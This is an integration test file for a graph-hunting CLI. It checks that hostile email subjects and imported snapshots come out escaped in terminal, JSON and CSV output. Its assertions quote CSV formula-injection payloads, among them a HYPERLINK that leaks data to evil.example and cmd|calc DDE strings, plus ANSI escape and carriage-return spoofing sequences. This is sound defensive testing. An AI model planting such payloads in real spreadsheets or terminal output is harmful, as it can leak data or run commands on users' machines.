/**
 * Issue 15 part 3 through the real CLI and a real Neo4j: what mail, shared hunts and imported snapshots put
 * in the graph reaches the terminal escaped, and reaches a spreadsheet without a formula that runs.
 */
import { execFile } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { promisify } from 'node:util';
import type { Driver } from 'neo4j-driver';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FORMULA_CELLS, TERMINAL_ATTACKS } from '../hostile/corpus.js';
import { resetGraph, testDriver, testNeo4jConfig } from '../helpers/neo4j.js';
import { tempDirs } from '../helpers/temp-dirs.js';

const run = promisify(execFile);
const RAW_CONTROLS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029]/;
const temp = tempDirs();
let driver: Driver;
let userDir: string;

const SUBJECTS = [...TERMINAL_ATTACKS, ...FORMULA_CELLS];

beforeAll(async () => {
  driver = await testDriver();
  await resetGraph(driver);
  await driver.executeQuery(
    'UNWIND range(0, size($subjects) - 1) AS i CREATE (:Email {id: "hostile-" + i, subject: $subjects[i], n: i})',
    { subjects: SUBJECTS },
  );
  userDir = temp.make('callhound-output-cli-');
  writeFileSync(path.join(userDir, 'subjects.cypher'), '// @title Subjects\n// @result table\nMATCH (e:Email) RETURN e.n AS n, e.subject AS subject, [e.subject, e.subject] AS both ORDER BY n\n');
});
afterAll(async () => {
  await resetGraph(driver);
  await driver.close();
});

async function cli(...args: string[]): Promise<{ stdout: string; stderr: string; code: number }> {
  const db = testNeo4jConfig();
  const env = { ...process.env, NEO4J_URI: db.uri, NEO4J_USER: db.user, NEO4J_PASSWORD: db.password, CALLHOUND_HUNTS_DIR: userDir };
  try {
    const { stdout, stderr } = await run(process.execPath, ['--import', 'tsx', 'src/cli/main.ts', ...args], { env, timeout: 90_000 });
    return { stdout, stderr, code: 0 };
  } catch (error) {
    const e = error as { stdout: string; stderr: string; code: number };
    return { stdout: e.stdout, stderr: e.stderr, code: e.code };
  }
}

describe('hostile text through the CLI', { timeout: 300_000 }, () => {
  it('hunt run --format csv: no raw escape, no cell a spreadsheet would run', async () => {
    const { stdout, code } = await cli('hunt', 'run', 'subjects', '--format', 'csv');
    expect(code).toBe(0);
    // CSV's own CRLF line ends are the only CR (harmless before LF).
    expect(stdout.replaceAll('\r\n', '\n')).not.toMatch(RAW_CONTROLS);
    const lines = stdout.split('\r\n').slice(1, -1);
    expect(lines).toHaveLength(SUBJECTS.length);
    for (const line of lines) {
      // Cells after the row number: the subject and the list; each starts with ' or " or a harmless character.
      const subjectCell = line.slice(line.indexOf(',') + 1).replace(/^"/, '');
      expect(subjectCell, line).not.toMatch(/^[ ]*[=+\-@\t\r]/);
    }
    expect(stdout).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1`);
    expect(stdout).toContain("'+1+cmd|' /C calc'!A0");
    expect(stdout).toContain("'-2+3+cmd|' /C calc'!A0");
    expect(stdout).toContain('Invoice \\u001b[2J\\u001b[31mPAID');
  });

  it('hunt run as a table and as JSON: escaped, and the JSON keeps the exact values', async () => {
    const table = await cli('hunt', 'run', 'subjects');
    expect(table.stdout).not.toMatch(RAW_CONTROLS);
    const json = await cli('hunt', 'run', 'subjects', '--format', 'json');
    expect(json.stdout).not.toMatch(RAW_CONTROLS);
    expect((JSON.parse(json.stdout) as { rows: Array<{ subject: string }> }).rows.map((r) => r.subject)).toEqual(SUBJECTS);
  });

  it('snapshot import / list / show: an imported title, note and author are printed escaped', async () => {
    const file = path.join(userDir, 'evil-snapshot.json');
    const title = `Cluster ${TERMINAL_ATTACKS[1]}`;
    writeFileSync(file, JSON.stringify({
      callhoundSnapshot: 1, title, note: `${TERMINAL_ATTACKS[0]}\nsecond line ${TERMINAL_ATTACKS[2]}`, author: TERMINAL_ATTACKS[4],
      query: { kind: 'search', q: TERMINAL_ATTACKS[3] },
      elements: { nodes: [{ key: `PhoneNumber:+18047134598\u001b[2J`, label: 'PhoneNumber', caption: TERMINAL_ATTACKS[0], volume: 1, props: {} }], edges: [] },
    }));
    const imported = await cli('snapshot', 'import', file);
    expect(imported.code).toBe(0);
    const id = imported.stdout.trim();
    expect(id).toMatch(/^[A-Za-z0-9_-]{24}$/);

    const list = await cli('snapshot', 'list');
    expect(list.stdout).not.toMatch(RAW_CONTROLS);
    expect(list.stdout).toContain('Cluster Paid \\u001b[2J');

    const show = await cli('snapshot', 'show', id);
    expect(show.stdout).not.toMatch(RAW_CONTROLS);
    expect(show.stdout).toContain('second line ok\\u000dcallhound: all clear');
    expect(show.stdout).toContain('PhoneNumber:+18047134598\\u001b[2J');

    const json = await cli('snapshot', 'show', id, '--json');
    expect(json.stdout).not.toMatch(RAW_CONTROLS);
    expect((JSON.parse(json.stdout) as { title: string }).title).toBe(title);

    for (const format of ['json', 'cyjs', 'csv', 'misp', 'svg']) {
      const exported = await cli('snapshot', 'export', id, '--format', format);
      expect(exported.code, exported.stderr).toBe(0);
      expect(exported.stdout.replaceAll('\r\n', '\n'), format).not.toMatch(RAW_CONTROLS);
    }
  });
});
